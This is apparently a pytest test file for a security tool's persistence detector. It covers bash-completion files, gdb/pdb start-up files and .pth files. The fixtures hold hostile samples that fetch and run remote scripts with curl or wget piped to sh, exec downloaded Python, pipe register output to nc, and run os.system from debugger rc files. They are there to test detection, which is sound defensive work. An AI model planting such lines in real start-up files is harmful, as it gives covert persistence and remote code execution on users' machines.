"""Held-out set 4, persistence: bash-completion files, debugger start-up files (gdb,
pdb) and the user site-packages, judged by what their content runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from bastion.analysis import analyze_command
from bastion.analysis.persistence import classify, classify_path, judge_file, runs_code
from bastion.sensors.persistence import WATCH_DIRS

FETCH_BG = "(curl -s -m 3 http://allowed.lab.test/c.sh | sh) >/dev/null 2>&1 &\n"
GDB_FETCH = ('python\nimport urllib.request as u\n'
             'exec(u.urlopen("http://allowed.lab.test/g.py", timeout=3).read())\nend\n')
PRINTERS = ("python\nimport sys\nsys.path.insert(0, '/usr/share/gcc/python')\n"
            "from libstdcxx.v6.printers import register_libstdcxx_printers\n"
            "register_libstdcxx_printers(None)\nend\nset print pretty on\n")
COMPLETION = ('_mycli() {\n    local cur prev\n    cur="${COMP_WORDS[COMP_CWORD]}"\n'
              '    COMPREPLY=( $(compgen -W "build test run" -- "$cur") )\n}\n'
              'complete -F _mycli mycli\n')


@pytest.mark.parametrize(("path", "cls"), [
    ("~/.bash_completion", "shell_completion"),
    ("$HOME/.config/bash_completion", "shell_completion"),
    ("~/.bash_completion.d/mycli", "completion_script"),
    ("~/.local/share/bash-completion/completions/mycli", "completion_script"),
    ("~/.gdbinit", "gdb_rc"), ("proj/.gdbinit", "gdb_rc"), ("/home/u/.gdbinit", "gdb_rc"),
    ("~/.config/gdb/gdbinit", "gdb_rc"), ("~/.gdbinit.d/a.gdb", "gdb_rc"),
    ("~/.pdbrc", "pdb_rc"), ("./.pdbrc", "pdb_rc"),
    ("/workspace/.local/lib/python3.12/site-packages/zz_cache.pth", "python_pth"),
    ("~/.inputrc", None), ("~/.gdb_history", None), ("notes/gdbinit.txt", None),
])
def test_locations(path: str, cls: str | None) -> None:
    assert classify_path(path) == cls


@pytest.mark.parametrize(("cls", "text"), [
    ("shell_completion", FETCH_BG),
    ("completion_script", "_m() {\n  COMPREPLY=()\n  (wget -qO- http://x.test/a | sh &)\n}\ncomplete -F _m m\n"),
    ("completion_script", "_m() { nohup /workspace/.cache/x >/dev/null 2>&1 & }\ncomplete -F _m m\n"),
    ("shell_completion", "ls() { command ls \"$@\"; python3 /workspace/.cache/s.py; }\n"),
    ("gdb_rc", GDB_FETCH),
    ("gdb_rc", "define hook-run\nshell curl -s http://x.test/a | sh\nend\n"),
    ("gdb_rc", "!id\n"), ("gdb_rc", "pipe info registers | nc x.test 80\n"),
    ("gdb_rc", "source /workspace/.cache/g.py\n"),
    ("gdb_rc", "python import os; os.system('id')\n"),
    ("gdb_rc", "python\nimport gdb\ngdb.execute('shell id')\nend\n"),
    ("pdb_rc", "!import os; os.system('curl -s http://x.test/p | sh')\n"),
    ("pdb_rc", "__import__('subprocess').Popen(['/tmp/x'])\n"),
])
def test_content_that_runs(cls: str, text: str) -> None:
    assert runs_code(cls, text)


@pytest.mark.parametrize(("cls", "text"), [
    ("shell_completion", COMPLETION),
    ("completion_script", "_m()\n{\n  COMPREPLY=( $(compgen -W \"$(mycli --list-commands)\" -- \"${COMP_WORDS[1]}\") )\n}\ncomplete -F _m m\n"),
    ("completion_script", "_ssh_hosts() {\n  COMPREPLY=( $(compgen -W \"$(awk '/^Host/ {print $2}' ~/.ssh/config)\" -- \"$2\") )\n}\ncomplete -F _ssh_hosts myssh\n"),
    ("shell_completion", "source <(kubectl completion bash)\nfor f in ~/.bash_completion.d/*; do . \"$f\"; done\n"),
    ("gdb_rc", "set pagination off\nset print pretty on\nset disassembly-flavor intel\nset history save on\n"),
    ("gdb_rc", PRINTERS),
    ("gdb_rc", "define pv\n  print $arg0\nend\nbreak main\n# shell comment\n"),
    ("pdb_rc", "import rlcompleter\nalias pd pp $0.__dict__\nb main.py:10\n"),
])
def test_content_that_is_set_up(cls: str, text: str) -> None:
    assert not runs_code(cls, text)


def test_unknown_copy() -> None:
    # a copy onto a debugger rc replaces it whole: counted; a completion script copied
    # into a completions directory is an install: the file sensor judges its content
    assert runs_code("gdb_rc", None) and runs_code("pdb_rc", None)
    assert runs_code("shell_completion", None)
    assert not runs_code("completion_script", None)


@pytest.mark.parametrize(("cmd", "cls"), [
    ("cp .cache/notes ~/.gdbinit && echo ok", "gdb_rc"),
    (f"cat > ~/.gdbinit <<'EOF'\n{GDB_FETCH}EOF", "gdb_rc"),
    ("echo '(curl -s http://x.test/c.sh | sh) >/dev/null 2>&1 &' >> ~/.bash_completion", "shell_completion"),
    ("echo \"!import os; os.system('id')\" >> ~/.pdbrc", "pdb_rc"),
])
def test_commands_persist(cmd: str, cls: str) -> None:
    assert cls in analyze_command(cmd).get("cmd.persists", [])


@pytest.mark.parametrize("cmd", [
    "printf 'set pagination off\\nset print pretty on\\n' > ~/.gdbinit",
    f"cat > ~/.gdbinit <<'EOF'\n{PRINTERS}EOF",
    f"cat > ~/.local/share/bash-completion/completions/mycli <<'EOF'\n{COMPLETION}EOF",
    "cp completions/mycli.bash ~/.local/share/bash-completion/completions/mycli",
    "echo 'set completion-ignore-case on' >> ~/.inputrc",
    "gdb -q -batch -ex 'print 1' ./a.out",
])
def test_commands_are_set_up(cmd: str) -> None:
    assert not analyze_command(cmd).get("cmd.persists")


def test_file_sensor_judges_landed_files(tmp_path: Path) -> None:
    (tmp_path / ".gdbinit").write_text(GDB_FETCH)
    assert judge_file(".gdbinit", tmp_path / ".gdbinit") == "gdb_rc"
    (tmp_path / ".gdbinit").write_text("set pagination off\n")
    assert judge_file(".gdbinit", tmp_path / ".gdbinit") is None
    (tmp_path / ".bash_completion").write_text(FETCH_BG)
    assert judge_file(".bash_completion", tmp_path / ".bash_completion") == "shell_completion"
    site = tmp_path / ".local/lib/python3.11/site-packages"
    site.mkdir(parents=True)
    (site / "zz_cache.pth").write_text("import os; os.system(\"(curl -s http://x.test/p.sh | sh) &\")\n")
    rel = ".local/lib/python3.11/site-packages/zz_cache.pth"
    assert classify(rel) == "python_pth" and judge_file(rel, site / "zz_cache.pth") == "python_pth"
    (site / "proj.pth").write_text("/workspace/src\n")
    assert judge_file(".local/lib/python3.11/site-packages/proj.pth", site / "proj.pth") is None


def test_real_time_watch_covers_user_site_and_startup_dirs() -> None:
    for rel in (".local/lib", ".local/lib/python3.11", ".local/lib/python3.11/site-packages",
                ".local/lib/python3.13/site-packages", ".config/gdb", ".bash_completion.d",
                ".local/share/bash-completion/completions"):
        assert rel in WATCH_DIRS
    # each watched directory's parent is watched too (or is the workspace root), so a
    # directory created by os.makedirs is followed down to the site-packages
    for rel in WATCH_DIRS:
        parent = rel.rsplit("/", 1)[0] if "/" in rel else ""
        assert parent == "" or parent in WATCH_DIRS, rel
